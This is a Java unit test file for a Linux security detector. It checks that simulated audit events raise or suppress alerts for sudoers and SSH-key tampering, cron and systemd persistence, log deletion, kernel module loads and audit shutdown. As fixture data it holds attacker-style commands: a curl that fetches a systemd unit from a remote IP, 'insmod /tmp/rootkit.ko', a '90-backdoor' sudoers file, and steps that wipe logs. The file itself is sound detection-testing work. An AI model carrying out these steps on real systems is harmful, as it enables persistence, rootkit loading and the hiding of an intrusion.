package io.edgesec.detector.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.edgesec.api.event.SecurityEvent;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * IOTA-003, -023, -040, -043, -045 from the audit collector's system-change events (FileChange,
 * KernelModule, AuditConfigurationChange, shaped as collector-audit's EventMapper builds them
 * from real records, see its SystemChangeEventsTest), in {@link BuiltinAlertsTest}'s style:
 * scenarios that must raise exactly the listed IDs, and near misses (package installation,
 * log rotation, module loads the kernel or boot asks for, the collector's own rule changes) that
 * must raise nothing. Most scenarios have no command line that shows the intent: the file or
 * syscall is the only evidence.
 */
class SystemChangeAlertsTest extends AlertCases {
    private static final Table CASES = new Table();

    /** A FileChange by process {@code pid} (whose ProcessCreate may or may not have been seen). */
    static Ev.Seq file(Ev.Seq s, int pid, int ppid, String exe, String cmd, String op, String path, String oldPath) {
        Map<String, Object> p = new LinkedHashMap<>();
        p.put("Operation", op);
        p.put("Path", path);
        if (oldPath != null) {
            p.put("OldPath", oldPath);
        }
        process(p, pid, ppid, exe, cmd);
        return s.add("FileChange", p);
    }

    static Ev.Seq module(Ev.Seq s, int pid, int ppid, String exe, String cmd, String op, String name, boolean ok) {
        Map<String, Object> p = new LinkedHashMap<>();
        p.put("Operation", op);
        if (name != null) {
            p.put("ModuleName", name);
        }
        p.put("Result", ok ? "Success" : "Fail");
        process(p, pid, ppid, exe, cmd);
        return s.add("KernelModule", p);
    }

    static Ev.Seq config(Ev.Seq s, int pid, String cmd, Map<String, Object> fields, Map<String, String> extra) {
        Map<String, Object> p = new LinkedHashMap<>(fields);
        process(p, pid, 4000, "/usr/sbin/auditctl", cmd);
        ((Map<String, Object>) p.get("ExtraDetails")).putAll(extra);
        return s.add("AuditConfigurationChange", p);
    }

    private static void process(Map<String, Object> p, int pid, int ppid, String exe, String cmd) {
        Ev.processFields(p, exe, cmd, "root", pid, ppid);
        Map<String, Object> extra = new LinkedHashMap<>();
        extra.put("AuditUserId", "1000");
        extra.put("Syscall", "openat");
        p.put("ExtraDetails", extra);
    }

    static {
        // IOTA-045 sudoers / authorized keys
        CASES.fires("a script appends to root's authorized_keys", "IOTA-045", s -> file(s.execPid(9001, "/usr/bin/python3",
                "python3 /opt/tools/helper.py", 4000), 9001, 4000, "/usr/bin/python3", "python3 /opt/tools/helper.py", "Modify",
                "/root/.ssh/authorized_keys", null));
        CASES.fires("a file created in sudoers.d by an unknown process", "IOTA-045", s -> file(s, 9002, 1, "/tmp/.x/agent", "/tmp/.x/agent",
                "Create", "/etc/sudoers.d/90-backdoor", null));
        CASES.fires("authorized_keys renamed into place in a user's home", "IOTA-045", s -> file(s, 9003, 4000, "/usr/bin/mv",
                "mv k /home/alice/.ssh/authorized_keys", "Rename", "/home/alice/.ssh/authorized_keys", "/home/alice/.ssh/k"));
        CASES.quiet("dpkg installs a sudoers.d file (renamed from .dpkg-new)", s -> file(s.execPid(9010, "/usr/bin/dpkg",
                "dpkg -i sudo-ldap.deb", 4000), 9010, 4000, "/usr/bin/dpkg", "dpkg -i sudo-ldap.deb", "Rename", "/etc/sudoers.d/README",
                "/etc/sudoers.d/README.dpkg-new"));
        CASES.quiet("a maintainer script under dpkg copies a sudoers.d file", s -> file(s
                .execPid(9011, "/usr/bin/dpkg", "dpkg --configure -a", 4000)
                .execPid(9012, "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/vendor-agent.postinst configure", 9011)
                .execPid(9013, "/usr/bin/cp", "cp /usr/share/vendor/sudoers /etc/sudoers.d/vendor", 9012),
                9013, 9012, "/usr/bin/cp", "cp /usr/share/vendor/sudoers /etc/sudoers.d/vendor", "Create", "/etc/sudoers.d/vendor", null));
        CASES.quiet("a sudoers.d file removed", s -> file(s, 9014, 4000, "/usr/bin/rm", "rm /etc/sudoers.d/old", "Delete",
                "/etc/sudoers.d/old", null));
        CASES.quiet("ssh writes known_hosts in ~/.ssh", s -> file(s, 9015, 4000, "/usr/bin/ssh", "ssh admin@10.0.0.5", "Create",
                "/root/.ssh/known_hosts", null));
        CASES.quiet("visudo's temporary file alone", s -> file(s, 9016, 4000, "/usr/bin/python3", "python3 x.py", "Create",
                "/etc/sudoers.tmp", null));
        CASES.quiet("ssh-copy-id's remote shell appends a key", s -> file(s
                .execPid(9017, "/usr/bin/ssh-copy-id", "/bin/sh /usr/bin/ssh-copy-id admin@dev", 4000)
                .execPid(9018, "/usr/bin/sh", "sh -c cat >> .ssh/authorized_keys", 9017),
                9018, 9017, "/usr/bin/sh", "sh -c cat >> .ssh/authorized_keys", "Modify", "/root/.ssh/authorized_keys", null));

        // IOTA-043 persistence
        CASES.fires("a cron file dropped by a script", "IOTA-043", s -> file(s, 9101, 4000, "/usr/bin/python3", "python3 -c exec(...)",
                "Create", "/etc/cron.d/sysupdate", null));
        CASES.fires("crontab -e's edit renamed into place", "IOTA-043", s -> file(s, 9102, 4000, "/usr/bin/crontab", "crontab -e",
                "Rename", "/var/spool/cron/crontabs/root", "/var/spool/cron/crontabs/tmp.AbC123"));
        CASES.fires("a systemd unit downloaded into /etc/systemd/system", "IOTA-043", s -> file(s.run(
                "curl -s -o /etc/systemd/system/updater.service http://203.0.113.7/u"), 9103, 4000, "/usr/bin/curl",
                "curl -s -o /etc/systemd/system/updater.service http://203.0.113.7/u", "Create", "/etc/systemd/system/updater.service",
                null));
        CASES.quiet("dpkg installs a cron file", s -> file(s.execPid(9110, "/usr/bin/dpkg", "dpkg --unpack sysstat.deb", 4000), 9110,
                4000, "/usr/bin/dpkg", "dpkg --unpack sysstat.deb", "Rename", "/etc/cron.d/sysstat", "/etc/cron.d/sysstat.dpkg-new"));
        CASES.quiet("apt -> dpkg -> postinst -> deb-systemd-helper links a unit", s -> file(s
                .execPid(9111, "/usr/bin/apt-get", "apt-get install -y chrony", 4000)
                .execPid(9112, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 36 --configure chrony", 9111)
                .execPid(9113, "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/chrony.postinst configure", 9112)
                .execPid(9114, "/usr/bin/perl", "/usr/bin/perl /usr/bin/deb-systemd-helper enable chrony.service", 9113),
                9114, 9113, "/usr/bin/perl", "/usr/bin/perl /usr/bin/deb-systemd-helper enable chrony.service", "Create",
                "/etc/systemd/system/chronyd.service", null));
        CASES.quiet("systemctl enable makes its links", s -> file(file(s.run("systemctl enable ssh"), 9115, 4000, "/usr/bin/systemctl",
                "systemctl enable ssh", "Create", "/etc/systemd/system/multi-user.target.wants/ssh.service", null), 9115, 4000,
                "/usr/bin/systemctl", "systemctl enable ssh", "Create", "/etc/systemd/system/sshd.service", null));
        CASES.quiet("crontab's temporary file alone", s -> file(s, 9116, 4000, "/usr/bin/crontab", "crontab -e", "Create",
                "/var/spool/cron/crontabs/tmp.XyZ987", null));
        CASES.quiet("a cron file removed", s -> file(s, 9117, 4000, "/usr/bin/rm", "rm /etc/cron.d/old", "Delete", "/etc/cron.d/old", null));

        // IOTA-023 log removal
        CASES.fires("a script unlinks auth.log", "IOTA-023", s -> file(s, 9201, 4000, "/usr/bin/python3", "python3 /tmp/c.py", "Delete",
                "/var/log/auth.log", null));
        CASES.fires("wtmp truncated by an unknown program", "IOTA-023", s -> file(s, 9202, 4000, "/dev/shm/.c", "/dev/shm/.c", "Modify",
                "/var/log/wtmp", null));
        CASES.fires("syslog moved out of /var/log", "IOTA-023", s -> file(s, 9203, 4000, "/usr/bin/mv", "mv /var/log/syslog /tmp/s",
                "Rename", "/tmp/s", "/var/log/syslog"));
        CASES.quiet("logrotate rotates and compresses", s -> {
            s.execPid(9210, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", 1);
            file(s, 9210, 1, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "Rename", "/var/log/syslog.1",
                    "/var/log/syslog");
            file(s, 9210, 1, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "Delete", "/var/log/syslog.7.gz", null);
            s.execPid(9211, "/usr/bin/gzip", "/bin/gzip -f /var/log/syslog.2", 9210);
            file(s, 9211, 9210, "/usr/bin/gzip", "/bin/gzip -f /var/log/syslog.2", "Delete", "/var/log/syslog.2", null);
        });
        CASES.quiet("logrotate's child (postrotate script) empties a log", s -> file(s
                .execPid(9212, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", 1)
                .execPid(9213, "/usr/bin/dash", "sh -c invoke-rc.d rsyslog rotate", 9212),
                9213, 9212, "/usr/bin/dash", "sh -c invoke-rc.d rsyslog rotate", "Modify", "/var/log/mail.log", null));
        CASES.quiet("journald vacuums its own files", s -> file(s, 300, 1, "/usr/lib/systemd/systemd-journald",
                "/lib/systemd/systemd-journald", "Delete", "/var/log/journal/abc/system@0001-0002.journal~", null));
        CASES.quiet("apt rewrites its eipp log", s -> file(s.execPid(9214, "/usr/bin/apt", "apt upgrade", 4000), 9214, 4000,
                "/usr/bin/apt", "apt upgrade", "Modify", "/var/log/apt/eipp.log.xz", null));
        CASES.quiet("a new log file created", s -> file(s, 9215, 1, "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n", "Create",
                "/var/log/new.log", null));
        CASES.quiet("a log renamed within /var/log by hand", s -> file(s, 9216, 4000, "/usr/bin/mv", "mv /var/log/app.log /var/log/app.log.old",
                "Rename", "/var/log/app.log.old", "/var/log/app.log"));

        // IOTA-040 kernel modules
        CASES.fires("a loader loads a module (no modprobe in sight)", "IOTA-040", s -> module(s, 9301, 4000, "/tmp/.l/loader",
                "/tmp/.l/loader", "Load", "diamorphine", true));
        CASES.fires("insmod at run time (the syscall and the command line)", "IOTA-040", s -> module(s.execPid(9302, "/usr/bin/kmod",
                "insmod /tmp/rootkit.ko", 4000), 9302, 4000, "/usr/bin/kmod", "insmod /tmp/rootkit.ko", "Load", "rootkit", true));
        CASES.quiet("the kernel asks modprobe (child of kthreadd)", s -> module(s, 9310, 2, "/usr/bin/kmod",
                "/sbin/modprobe -q -- net-pf-10", "Load", "ipv6", true));
        CASES.quiet("a package's post-install loads its module", s -> module(s
                .execPid(9311, "/usr/bin/dpkg", "dpkg --configure wireguard-dkms", 4000)
                .execPid(9312, "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/wireguard-dkms.postinst configure", 9311)
                .execPid(9313, "/usr/bin/kmod", "modprobe wireguard", 9312),
                9313, 9312, "/usr/bin/kmod", "modprobe wireguard", "Load", "wireguard", true));
        CASES.quiet("systemd-modules-load at boot", s -> module(s, 9314, 1, "/usr/lib/systemd/systemd-modules-load",
                "/lib/systemd/systemd-modules-load", "Load", "loop", true));
        CASES.quiet("a boot-time load outside any login session (no audit uid; the RHEL 7 corpus log's modprobe)", s -> {
            Map<String, Object> p = new LinkedHashMap<>();
            p.put("Operation", "Load");
            p.put("Result", "Success");
            process(p, 391, 390, "/usr/bin/kmod", "modprobe -q -- nf_conntrack");
            ((Map<?, ?>) p.get("ExtraDetails")).remove("AuditUserId");
            s.add("KernelModule", p);
        });
        CASES.quiet("a module unloaded", s -> module(s, 9315, 4000, "/usr/bin/kmod", "rmmod dummy", "Unload", null, true));
        CASES.quiet("a load that failed", s -> module(s, 9316, 4000, "/tmp/x", "/tmp/x", "Load", null, false));

        // IOTA-003 audit configuration
        CASES.fires("auditing switched off through the netlink socket", "IOTA-003", s -> config(s, 9401, "/tmp/.n/quiet",
                Ev.map("Operation", "set", "Setting", "audit_enabled", "Value", "0", "OldValue", "1", "Result", "Success"), Map.of()));
        CASES.fires("edgesec's rules deleted (augenrules --load)", "IOTA-003", s -> config(s, 9402, "/sbin/auditctl -R /etc/audit/audit.rules",
                Ev.map("Operation", "remove_rule", "Key", "edgesec", "List", "4", "Result", "Success"), Map.of("EdgesecRule", "true")));
        CASES.quiet("the collector removes its own rules", s -> config(s, 9410, "auditctl -d always,exit -F arch=b64 -S execve -k edgesec",
                Ev.map("Operation", "remove_rule", "Key", "edgesec", "List", "4", "Result", "Success"),
                Map.of("EdgesecRule", "true", "ByThisAgent", "true")));
        CASES.quiet("another key's rule added and removed", s -> {
            config(s, 9411, "auditctl -w /etc/passwd -p wa -k identity", Ev.map("Operation", "add_rule", "Key", "identity", "List",
                    "4", "Result", "Success"), Map.of());
            config(s, 9412, "auditctl -W /etc/passwd -p wa -k identity", Ev.map("Operation", "remove_rule", "Key", "identity",
                    "List", "4", "Result", "Success"), Map.of());
        });
        CASES.quiet("auditing switched on; auditd's pid unset when it stops", s -> {
            config(s, 9413, "auditctl -e 1", Ev.map("Operation", "set", "Setting", "audit_enabled", "Value", "1", "OldValue", "0",
                    "Result", "Success"), Map.of());
            config(s, 9414, "/sbin/auditd", Ev.map("Operation", "set", "Setting", "audit_pid", "Value", "0", "OldValue", "321",
                    "Result", "Success"), Map.of());
        });
        CASES.quiet("switching off refused (locked configuration)", s -> config(s, 9415, "/tmp/.n/quiet", Ev.map("Operation", "set",
                "Setting", "audit_enabled", "Value", "0", "OldValue", "2", "Result", "Fail"), Map.of()));
    }

    static Stream<Case> cases() {
        return CASES.stream();
    }

    @Test
    void theAlertNamesTheFileTheProcessAndItsParent() {
        Ev.Seq s = new Ev.Seq();
        s.execPid(9501, "/usr/bin/python3", "python3 /opt/tools/helper.py", 4000);
        file(s, 9501, 4000, "/usr/bin/python3", "python3 /opt/tools/helper.py", "Modify", "/root/.ssh/authorized_keys", null);
        List<SecurityEvent> alerts = Detect.alerts(s.events, Map.of());
        assertEquals(1, alerts.size(), alerts.toString());
        Map<String, Object> a = alerts.get(0).payload().get(0);
        Map<?, ?> ents = (Map<?, ?>) a.get("Entities");
        assertEquals("/root/.ssh/authorized_keys", ents.get("File"));
        assertEquals("/usr/bin/python3", ents.get("Executable"));
        assertEquals("9501", ents.get("ProcessId"));
        assertEquals("root", ents.get("User"));
        assertEquals("1000", ents.get("LoginSession"));
        assertTrue(String.valueOf(a.get("Description")).contains("/root/.ssh/authorized_keys"), a.toString());
        assertTrue(String.valueOf(a.get("Description")).contains("Modify"), a.toString());
    }

    @Test
    void aSuppressionByFileWorksLikeAnyOther() {
        Ev.Seq s = new Ev.Seq();
        file(s, 9601, 4000, "/opt/vendor/bin/keysync", "/opt/vendor/bin/keysync", "Modify", "/home/vendor/.ssh/authorized_keys", null);
        assertEquals(List.of(), Detect.alerts(s.events, Map.of("suppressions",
                new String[] {"IOTA-045 File=/home/vendor/.ssh/* Executable=/opt/vendor/bin/keysync"})));
    }
}
